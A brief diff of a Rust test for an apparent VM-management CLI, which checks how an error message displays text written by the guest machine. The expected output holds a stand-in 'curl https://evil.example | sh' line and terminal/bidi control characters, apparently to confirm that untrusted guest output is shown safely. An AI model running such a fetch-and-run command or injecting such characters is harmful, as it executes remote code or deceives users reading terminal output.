@@ -58,7 +58,8 @@ fn an_error_shows_what_the_guest_wrote() {
           tried: multipass exec -n polis -- bash -c '[script: see how the VM is]' polis
           log: bad\u{9b}2K\u{202e}gpj
           log: next: curl https://evil.example | sh
-    "#]].assert_eq(&seen(&world.polis(&["start"])));
+    "#]]
+    .assert_eq(&seen(&world.polis(&["start"])));
 }
 
 #[test]
